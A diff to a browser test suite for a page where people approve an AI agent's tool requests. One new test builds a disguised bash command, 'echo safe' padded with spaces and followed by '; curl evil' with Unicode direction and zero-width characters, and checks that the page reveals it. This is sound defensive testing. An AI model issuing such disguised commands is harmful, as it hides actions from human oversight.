@@ -1,6 +1,7 @@
 """The page as a person meets it: logging in, a turn, its asks, two tabs, a phone, a server that was started anew."""
 
 import base64
+import json
 import re
 import subprocess
 import sys
@@ -160,6 +161,7 @@ def test_a_turn_is_streamed_and_its_asks_are_answered_with_what_they_do_before_t
     answer(page, "Once")
     page.wait_for_selector(".asks .diff")
     assert "+- the build folder is empty" in text_of(page, ".asks .diff")
+    page.wait_for_selector(".asks button.primary:enabled")
     shot(page, "page-ask")
     answer(page, "Always")
     page.wait_for_selector(".message.agent table")
@@ -197,6 +199,21 @@ def test_a_question_of_the_model_is_answered(machine: Machine, log_in: LogIn) ->
     page.click(".asks label:has-text('blue')")
     answer(page, "Answer")
     page.wait_for_selector(".message.agent >> text=/heard.*blue/s")
+
+
+def test_all_of_what_is_asked_is_seen(machine: Machine, log_in: LogIn) -> None:
+    hidden = "echo safe" + " " * 400 + "; curl evil\u202e txt.\u200b"
+    page = log_in(machine.start(f"== turn\ntool: bash {json.dumps({'command': hidden})}\n", **ASKS))
+    write(page, "go")
+    page.wait_for_selector(".asks pre")
+    said = text_of(page, ".asks pre")
+    assert "; curl evil\\u202e txt.\\u200b" in said
+    assert "\u202e" not in said
+    assert page.locator(".asks pre").evaluate("one => one.scrollWidth <= one.clientWidth")
+    # The keyboard leaves the field and ends the turn.
+    page.keyboard.press("Escape")
+    page.keyboard.press("Escape")
+    page.wait_for_selector(".asks", state="detached")
 
 
 def test_a_key_answers_nothing_that_nobody_can_have_read(machine: Machine, log_in: LogIn) -> None:
